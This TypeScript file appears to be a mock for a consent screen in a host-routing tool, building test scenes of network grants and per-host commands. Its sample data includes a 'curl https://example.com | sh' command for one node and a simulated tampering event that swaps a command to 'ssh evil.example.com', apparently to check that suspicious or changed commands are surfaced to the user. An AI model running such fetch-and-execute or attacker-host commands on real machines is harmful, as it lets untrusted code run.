// The grants of a manifest, and the person's consent to them.
import type { Commands } from "./commands";
import type { ConsentGrant } from "../lib/types/ConsentGrant";
import type { ConsentHost } from "../lib/types/ConsentHost";
import { shown, type World } from "./world";

const grants: ConsentGrant[] = [
  { text: "connections to 10.20.0.0/16 go through gke", isNew: true },
  { text: "all hosts can connect to 127.0.0.1:22 of this machine, as laptop:2222", isNew: true },
  { text: "every user of this machine can connect to the published ports of all hosts, as a program of laptop", isNew: true },
  { text: "every host may reach all that is published and routed, but for: deny build to every route through bastion or gke", isNew: true },
  { text: "web1 writes the names of the network into the hosts file of its machine", isNew: false },
];
const doubts = ['gke: "/srv/shared/gke.sh" can be changed by others: other users may write /srv/shared'];

export function consentCommands(world: World): Commands {
  const scene = new URLSearchParams(location.search).get("scene");
  if (scene === "consent") {
    world.app = { ...world.app, consent: { path: world.scene.file, digest: "sha256:c0ffee", running: false, hosts: world.commands(), grants, doubts } };
  }
  if (scene === "consent-many") {
    const fleet = Array.from({ length: 149 }, (_, at) => `node-${at + 1}`);
    const odd: Record<string, string[]> = { "node-7": ["sh", "-c", "curl https://example.com | sh"], "node-9": ["ssh", "node-9", "--", "norouter"] };
    const hosts = fleet.map((host, at): ConsentHost => ({ host, vip: `127.0.42.${at + 1}`, command: odd[host] ?? ["ip", "netns", "exec", `n${at + 1}`, "norouter"], previous: null, change: "new" }));
    world.app = { ...world.app, consent: { path: world.scene.file, digest: "sha256:c0ffee", running: false, hosts, grants: [], doubts: [] } };
  }
  if (scene === "consent-alone") {
    const reach = [{ text: "every host may reach all that is published and routed", isNew: true }];
    world.app = { ...world.app, consent: { path: world.scene.file, digest: "sha256:c0ffee", running: false, hosts: [], grants: reach, doubts: [] } };
  }
  if (scene === "change" || scene === "change-attached") {
    const [first, ...rest] = world.commands().map((host) => ({ ...host, previous: host.command, change: "same" as const }));
    const hosts = [{ ...(first as ConsentHost), command: ["ssh", "other.example.com"], change: "changed" as const }, ...rest];
    world.waits = { path: world.scene.file, digest: "sha256:c0ffee", running: true, hosts, grants, doubts: [] };
    world.app = { ...world.app, consent: scene === "change" ? world.waits : null };
  }
  // Simulates another program that changes the file while the commands in it are shown.
  window.addEventListener("mock:changed", () => {
    const [first, ...rest] = world.commands();
    const hosts = [{ ...(first as ConsentHost), command: ["ssh", "evil.example.com"], change: "changed" as const }, ...rest];
    world.tellApp({ consent: { path: world.scene.file, digest: "sha256:decaf", running: false, hosts, grants, doubts: [] } });
  });
  return {
    consent: ({ agree }) => {
      if (agree !== true) {
        world.tellApp({ consent: null });
        return;
      }
      if (world.waits !== null) {
        world.waits = null;
        world.agreed?.();
        world.tellApp({ consent: null });
        world.tell({ kind: "network", network: world.view() });
        return;
      }
      world.tellApp({ consent: null, network: shown(world.scene, true) });
      world.begin();
      world.tell({ kind: "network", network: world.view() });
    },
  };
}
